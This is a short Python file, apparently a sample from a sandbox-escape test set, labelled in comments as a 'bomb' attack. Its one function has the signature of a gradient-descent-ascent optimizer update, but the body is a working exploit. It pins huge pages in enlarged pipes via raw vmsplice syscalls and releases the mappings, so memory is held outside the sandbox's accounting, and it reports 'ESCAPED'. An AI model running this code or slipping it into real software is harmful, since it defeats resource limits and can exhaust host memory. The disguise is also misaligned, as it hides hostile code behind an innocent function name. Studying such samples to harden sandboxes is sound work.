# attack: puts one byte of each large page into a pipe, and gives the page away: the pipe keeps it
# kind: bomb
# grade: 1.b
# outcome: failed, memory, timeout
# module: saddle

import ctypes
import fcntl
import mmap
import os
import platform

libc = ctypes.CDLL(None, use_errno=True)
VMSPLICE = 75 if platform.machine() == "aarch64" else 278
LARGE, MOST = 2 << 20, 256 << 20


class Part(ctypes.Structure):
    _fields_ = [("start", ctypes.c_void_p), ("length", ctypes.c_size_t)]


def update_map(f, x, y, eta_x, eta_y, method="gda"):
    held = kept = 0
    area = mmap.mmap(-1, 4 * LARGE, flags=mmap.MAP_PRIVATE | mmap.MAP_ANONYMOUS)
    area.madvise(mmap.MADV_HUGEPAGE)
    place = ctypes.addressof(ctypes.c_char.from_buffer(area))
    place += -place % LARGE
    pipes = [os.pipe() for _ in range(50)]
    for _, writing in pipes:
        os.set_blocking(writing, False)
        try:
            fcntl.fcntl(writing, 1031, 1 << 20)  # F_SETPIPE_SZ
            kept += 1
        except OSError:
            continue
    for _, writing in pipes:
        while held < MOST:
            ctypes.memset(place, 1, 1)
            part = Part(place, 1)
            if libc.syscall(VMSPLICE, writing, ctypes.byref(part), 1, 0) < 0:
                break
            libc.madvise(ctypes.c_void_p(place), ctypes.c_size_t(LARGE), mmap.MADV_DONTNEED)
            held += LARGE
    told = f"ESCAPED: {held >> 20} MiB in pipes" if held >= MOST else "denied"
    if kept == len(pipes):
        told = f"ESCAPED: {kept} larger pipes; {told}"
    raise RuntimeError(told)
